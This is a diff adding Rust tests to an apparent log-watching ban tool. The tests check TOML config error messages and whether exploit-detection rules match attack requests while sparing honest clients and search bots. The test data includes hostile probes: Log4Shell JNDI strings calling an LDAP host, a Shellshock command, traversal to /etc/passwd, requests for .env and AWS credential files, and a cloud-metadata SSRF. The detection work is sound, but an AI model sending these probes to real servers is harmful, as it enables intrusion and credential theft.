@@ -252,6 +252,41 @@ fn a_mistake_in_the_toml_costs_its_own_jail_and_not_what_follows() {
 }
 
 #[test]
+fn whatever_is_written_something_runs_and_the_mistake_is_told() {
+    let jails = Config::default().jails.len();
+    for text in [
+        "[jail.a]\npath = \"\"\"abc\nfindtime = 1\n\n",
+        "[jail.a]\npath = '''abc\n\n# end\n",
+        "[jail.a]\nstatus = [\n404,\n# more\n\n",
+        "[jail.a]\nnot = {\n\n",
+        "[jail.a]\nstatus = [404,\n  'x' 'y'\n  405,\n]\nmaxretry = 3\n",
+        "status = 1 ]",
+        "[jail.a]]\nstatus = 1",
+        "[]\n",
+        "a.b.c = {}\na.b.c.d = 1\n",
+        "[jail.a]\n\"",
+    ] {
+        let loaded = loaded(text);
+        assert_eq!(
+            loaded.config.jails.len(),
+            jails,
+            "{text}\n{:#?}",
+            loaded.problems
+        );
+        assert!(
+            (1..=2).contains(&loaded.problems.len()),
+            "{text}\n{:#?}",
+            loaded.problems
+        );
+        assert!(
+            loaded.problems.iter().all(|p| p.line.is_some()),
+            "{text}\n{:#?}",
+            loaded.problems
+        );
+    }
+}
+
+#[test]
 fn a_header_without_its_end_takes_its_keys_along() {
     let loaded = loaded("[jail.a]\nstatus = 404\n[jail.b\nstatus = 500\n[jail.c]\nstatus = 403\n");
     assert_eq!(jail(&loaded.config, "a").rule.all.status, [(404, 404)]);
@@ -319,13 +354,214 @@ fn conditions_are_read_in_every_form() {
     assert!(rule.all.text.len() == 1 && !rule.any.is_empty());
 }
 
-/// One mistake in the jail `a` (its header is line 1), and what is said.
-const MISTAKES: &[(&str, &str)] = &[("x", "")];
+#[test]
+fn every_mistake_is_told_with_its_line_and_what_to_write() {
+    let mut wrong = String::new();
+    for case in include_str!("mistakes.txt").split("\n==\n").skip(1) {
+        let (text, expected) = case.split_once("--\n").unwrap();
+        let said = told(text).join("\n");
+        if said.trim_end() != expected.trim_end() {
+            wrong.push_str(&format!("{text}--\n{said}\n\n"));
+        }
+    }
+    assert!(wrong.is_empty(), "what is said now:\n{wrong}");
+}
+
+/// The first field of `conditions` in which an expression is found, as `distinct = "any"` has it.
+fn found<'a>(conditions: &Conditions, fields: &[(Field, &'a str)]) -> Option<(Field, &'a str)> {
+    conditions.text.iter().find_map(|(field, list)| {
+        let (_, value) = fields.iter().find(|(f, _)| f == field)?;
+        list.iter()
+            .any(|regex| regex.is_match(value.as_bytes()))
+            .then_some((*field, *value))
+    })
+}
+
+fn field_found<'a>(jail: &Jail, field: Field, value: &'a str) -> Option<(Field, &'a str)> {
+    let part = if jail.rule.any.is_empty() {
+        &jail.rule.all
+    } else {
+        &jail.rule.any
+    };
+    found(part, &[(field, value)])
+}
 
 #[test]
-#[ignore = "prints"]
-fn print_messages() {
-    for (text, _) in MISTAKES {
-        eprintln!("{:#?}", told(&format!("[jail.a]\n{text}\n")));
+fn exploits_are_found_in_path_query_and_referer() {
+    let config = Config::default();
+    let exploit = jail(&config, "apache-exploit-path");
+    for (field, value) in [
+        (Field::Path, "/.env"),
+        (Field::Path, "/api/.env.bak"),
+        (Field::Path, "/.env_prod"),
+        (Field::Path, "/.git/config"),
+        (Field::Path, "/old/.svn/entries"),
+        (Field::Path, "/.aws/credentials"),
+        (Field::Path, "/.htpasswd"),
+        (Field::Path, "/wp-config.php.bak"),
+        (Field::Path, "/wp-config.php~"),
+        (
+            Field::Path,
+            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+        ),
+        (Field::Path, "/../../etc/passwd"),
+        (Field::Path, "/cgi-bin/../../../../bin/sh"),
+        (Field::Path, "/cgi-bin/.%2e/.%2e/bin/sh"),
+        (Field::Path, "/%2e%2e/%2e%2e/x"),
+        (Field::Path, "/..\\..\\windows\\win.ini"),
+        (Field::Path, "/../../../../x"),
+        (Field::Path, "/${jndi:ldap://203.0.113.9/a}"),
+        (Field::Query, "x=${jNdI:ldap://203.0.113.9/a}"),
+        (Field::Query, "x=${${lower:j}ndi:ldap://203.0.113.9/a}"),
+        (Field::Query, "x=${::-j}"),
+        (Field::Query, "page=../../../etc/passwd"),
+        (
+            Field::Query,
+            "-d allow_url_include=1 -d auto_prepend_file=php://input",
+        ),
+        (
+            Field::Query,
+            "file=php://filter/convert.base64-encode/resource=index",
+        ),
+        (Field::Query, "url=http://169.254.169.254/latest/meta-data/"),
+        (
+            Field::Query,
+            "s=/index/\\think\\app/invokefunction&function=call_user_func_array",
+        ),
+        (Field::Referer, "${jndi:ldap://203.0.113.9/a}"),
+        (Field::Referer, "() { :;}; /bin/bash -c id"),
+    ] {
+        assert_eq!(field_found(exploit, field, value), Some((field, value)));
+    }
+    let agent = jail(&config, "apache-exploit-agent");
+    for value in [
+        "() { :;}; /bin/bash -c id",
+        "(){ x",
+        "${jndi:dns://203.0.113.9/a}",
+        "${${env:NaN:-j}ndi}",
+    ] {
+        assert!(field_found(agent, Field::Agent, value).is_some(), "{value}");
+    }
+}
+
+#[test]
+fn what_honest_clients_ask_for_is_no_exploit() {
+    let config = Config::default();
+    let exploit = jail(&config, "apache-exploit-path");
+    for (field, value) in [
+        (Field::Path, "/project.git/info/refs"),
+        (Field::Path, "/.github/workflows/ci.yml"),
+        (Field::Path, "/.gitignore"),
+        (Field::Path, "/environment"),
+        (Field::Path, "/.environment"),
+        (Field::Path, "/wp-login.php"),
+        (Field::Path, "/wp-config-sample.php"),
+        (Field::Path, "/../images/logo.png"),
+        (Field::Path, "/docs/etc/passwd"),
+        (Field::Path, "/a..b/c...d/"),
+        (Field::Path, "/.well-known/caldav"),
+        (Field::Query, "q=where is /etc/passwd"),
+        (Field::Query, "q=union select password from users"),
+        (Field::Query, "code=function() { return 1 }"),
+        (Field::Query, "t=${name}&u=${x:y}"),
+        (Field::Query, "q=php allow_url_include"),
+        (Field::Query, "next=https://example.org/../x"),
+        (
+            Field::Referer,
+            "https://example.org/search?q=%24%7Bjndi%3Aldap",
+        ),
+        (Field::Referer, "https://example.org/a() {"),
+    ] {
+        assert_eq!(field_found(exploit, field, value), None);
+    }
+    let dav = |path| found(&exploit.rule.not, &[(Field::Path, path)]).is_some();
+    assert!(dav("/remote.php/dav/files/ann/project/.git/config"));
+    assert!(dav("/webdav/.env") && dav("/caldav/ann/"));
+    assert!(!dav("/.git/config") && !dav("/x/dav/.env"));
+    let agent = jail(&config, "apache-exploit-agent");
+    for value in [
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",
+        "-",
+        "curl/8.5.0",
+        "App/1.0 () {x}",
+    ] {
+        assert!(field_found(agent, Field::Agent, value).is_none(), "{value}");
+    }
+}
+
+#[test]
+fn a_page_elsewhere_gives_its_readers_two_different_finds_at_most() {
+    let config = Config::default();
+    let any = &jail(&config, "apache-exploit-path").rule.any;
+    let referer = "https://elsewhere.example/?${jndi:ldap://203.0.113.9/a}";
+    let asked = ["/.env", "/", "/about", "/news/today", "/.env", "/logo"];
+    let mut finds: Vec<_> = asked
+        .iter()
+        .filter_map(|path| {
+            found(
+                any,
+                &[
+                    (Field::Path, path),
+                    (Field::Query, ""),
+                    (Field::Referer, referer),
+                ],
+            )
+        })
+        .collect();
+    finds.sort();
+    finds.dedup();
+    assert_eq!(finds, [(Field::Path, "/.env"), (Field::Referer, referer)]);
+}
+
+#[test]
+fn the_scan_jail_leaves_out_what_programs_ask_for_unasked_and_search_engines() {
+    let config = Config::default();
+    let not = &jail(&config, "apache-scan").rule.not;
+    let spared = |field, value| found(not, &[(field, value)]).is_some();
+    for path in [
+        "/favicon.ico",
+        "/shop/favicon-32x32.png",
+        "/apple-touch-icon-120x120-precomposed.png",
+        "/robots.txt",
+        "/ads.txt",
+        "/humans.txt",
+        "/.well-known/traffic-advice",
+        "/browserconfig.xml",
+        "/sitemap_index.xml",
+        "/sitemap.xml.gz",
+        "/site.webmanifest",
+        "/js/app.js.map",
+        "/dav/._photo.jpg",
+        "/dav/folder/.DS_Store",
+        "/dav/Thumbs.db",
+        "/live/segment-77.ts",
+    ] {
+        assert!(spared(Field::Path, path), "{path}");
+    }
+    for path in [
+        "/missing-1",
+        "/old/page.html",
+        "/admin.php",
+        "/backup.zip",
+        "/x/robots.txt",
+        "/phpinfo.php",
+        "/dump.sql",
+    ] {
+        assert!(!spared(Field::Path, path), "{path}");
+    }
+    for agent in [
+        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
+        "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
+    ] {
+        assert!(spared(Field::Agent, agent), "{agent}");
+    }
+    for agent in [
+        "curl/8.5.0",
+        "Mozilla/5.0 zgrab/0.x",
+        "-",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
+    ] {
+        assert!(!spared(Field::Agent, agent), "{agent}");
     }
 }
